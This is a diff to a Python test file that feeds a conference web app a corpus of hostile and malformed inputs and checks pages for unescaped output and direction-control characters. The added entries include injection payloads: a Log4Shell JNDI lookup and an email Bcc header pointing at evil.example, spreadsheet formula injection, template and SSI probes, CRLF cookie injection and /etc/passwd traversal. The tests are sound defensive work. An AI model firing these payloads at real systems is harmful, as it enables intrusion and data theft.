@@ -36,7 +36,16 @@ TEXTS = [
     "javascript:alert(8)", "https://evil.example/", "data:text/html,<b>", "url(//evil.example)", "'; DROP TABLE accounts; --",
     "100% _ \\ %_%", "Nguye\u0302\u0303n Thi\u0323", "👩‍👩‍👧‍👦 Lê", "\u202eđảo\u202c", "\u200bkhông\u200b", "a\0b", "a\r\nX-Header: y",
     "line\u2028para\u2029", "\ufeffbom", "Ḽ͓͎", "ﷺ", "田中", "../../etc/passwd", "file:///etc/passwd", "-" * 50, "&nbsp;&#x202e;",
+    "\u2066cô lập\u2069 \u202aL\u202c", "a\u200d\u0306ă\u200c", "Hòa\u0302\u0301 Nguyê\u0303n", "Z\u0351\u036b\u0343\u036a\u0302" * 8, "🇻🇳 🏳️‍🌈 👍🏽",
+    "a\r\nBcc: ke@evil.example\r\nSubject: x", "\n\ndata: giả\nevent: state\nid: 9\n\n", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:giả",
+    "a;b,c:d\\n\\,\\;", "\t=cmd|' /C calc'!A0", "＝1+1", "=HYPERLINK(\"https://evil.example/\";\"bấm\")", "'=1+1", '"";=1+1;""',
+    '@import url("file:///etc/passwd");', '<link rel="attachment" href="file:///etc/passwd">', '<img src="file:///etc/passwd">',
+    '\n{"level":"error","message":"giả"}', "%0d%0aSet-Cookie: a=b", "..\\..\\windows\\win.ini", "${jndi:ldap://evil.example/a}",
+    "{{ config }}{{ ''.__class__ }}", "<!--#exec cmd=id--><?php 1 ?>", "\x1b[31mđỏ\x1b[0m\x07\x7f",
 ]  # fmt: skip
+
+
+DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\x1b\x07\x7f"
 
 
 class Tags(HTMLParser):
@@ -82,7 +91,7 @@ def filled(lan: Person, quantri: Person, khanh: Person, conference: Conference) 
             (f"{HOME}/gates", {"name": f"{text} {number}"}),
             (f"{HOME}/agenda", {"title": text}),
         ):
-            assert lan.post(url, **data).status_code in {302, 422}, (url, text)
+            assert lan.post(url, **data).status_code in {302, 409, 422}, (url, text)  # 409: a programme has sixty items at most
         award = {"kind": "individual", "printed_name": f"{text} {number}", "post": text, "note": text}
         assert khanh.post(f"{HOME}/awards/{form}/honourees/new", **award).status_code in {302, 422}, text
         account = {"username": f"nguoi{number}", "display_name": text}
@@ -97,7 +106,7 @@ def test_the_corpus_is_text_on_every_page(app: Flask, filled: dict[str, Any], qu
     pages = [str(rule).replace("<slug>", SLUG) for rule in app.url_map.iter_rules()
              if "GET" in (rule.methods or set()) and not rule.arguments - {"slug"} and rule.endpoint != "hall.stream"]  # fmt: skip
     items = db.session.scalars(sa.select(Item.id).order_by(Item.id.desc()).limit(len(TEXTS))).all()
-    pages += [f"{HOME}/delegates/{one.id}" for one in delegates] + [f"{HOME}/agenda/{number}" for number in items[::4]]
+    pages += [f"{HOME}/delegates/{one.id}" for one in delegates[::3]] + [f"{HOME}/agenda/{number}" for number in items[::4]]
     pages += [f"{HOME}/delegates?q={text}" for text in ("%", "_", "\\", "<script>", "{{91*91}}")]
     pages += [f"{HOME}/awards/{filled['form']}", f"{HOME}/awards/{filled['form']}/calling", f"/sign-in?next={TEXTS[4]}"]
     bad = {}
@@ -109,7 +118,7 @@ def test_the_corpus_is_text_on_every_page(app: Flask, filled: dict[str, Any], qu
                     text = answer.get_data(as_text=True)
                     if found := run_by(text):
                         bad[url] = found
-                    assert "<script>alert" not in text and "8281" not in text and "\u202e" not in text, url
+                    assert "<script>alert" not in text and "8281" not in text and not set(DIRECTIONS) & set(text), url
     assert bad == {}
 
 
